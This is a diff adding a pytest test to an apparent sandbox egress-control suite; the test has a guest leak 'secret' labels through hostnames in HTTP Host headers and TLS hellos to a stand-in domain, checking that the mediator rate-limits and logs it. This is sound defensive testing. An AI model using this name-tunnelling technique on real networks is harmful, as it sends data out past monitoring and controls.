@@ -2,10 +2,12 @@
 
 import socket
 import time
+from contextlib import suppress
 
 import dns.message
 import dns.rcode
 import pytest
+from tests.escapes.test_tls_names import client_hello
 from tests.kernel.conftest import MakeWorkspace
 
 from microagent.api.limits import Limits
@@ -82,3 +84,35 @@ def test_a_tunnel_through_names_is_slowed_down(
     if mode == "guarded":
         assert "status: NOERROR" in lab.guest.dig("api.ok.test")
     assert oracle.leaks((), {".sfx.test", "api.ok.test"}) == ()
+
+
+@pytest.mark.parametrize("over", ["requests", "hellos"])
+@pytest.mark.parametrize(("mode", "allow"), [("strict", [".sfx.test"]), ("guarded", [])])
+def test_names_in_requests_and_hellos_are_no_tunnel_either(
+    internet: Internet, oracle: Oracle, workspace: MakeWorkspace, mode: str, allow: list[str], over: str
+) -> None:
+    """A guest need not ask for a name to have it looked up: the mediator does, for the address to dial."""
+    lab = workspace(mode, allow=allow, limits=Limits(dns_new_names_per_minute=20))
+    port, known = (80, "http://www.sfx.test/") if over == "requests" else (443, "https://www.sfx.test/")
+    assert lab.guest.curl(known).returncode == 0
+    names = [f"secret{number}.sfx.test" for number in range(60)]
+    if over == "requests":
+        say = [f"GET / HTTP/1.1\r\nHost: {name}\r\n\r\n".encode() for name in names]
+    else:
+        say = [client_hello(name) for name in names]
+
+    def tunnel() -> None:
+        for data in say:
+            with suppress(OSError), socket.create_connection((world.SUFFIX, port), timeout=5) as stream:
+                stream.sendall(data)
+                stream.recv(1)
+
+    lab.guest.call(tunnel)
+    record = lab.wait_for("egress_deny", reason="new_names_exceeded")
+    assert record["host"].endswith(".sfx.test")
+    arrived = {query.name for query in internet.evidence().queries if query.name.startswith("secret")}
+    assert 15 < len(arrived) < 30  # the bucket fills by one in three seconds
+    asked = {record["qname"] for record in lab.records("egress_dns_allow") if record["qname"].startswith("secret")}
+    assert arrived == asked
+    assert lab.guest.curl(known).returncode == 0
+    assert oracle.leaks({Destination("tcp", world.SUFFIX, port)}, {".sfx.test"}) == ()
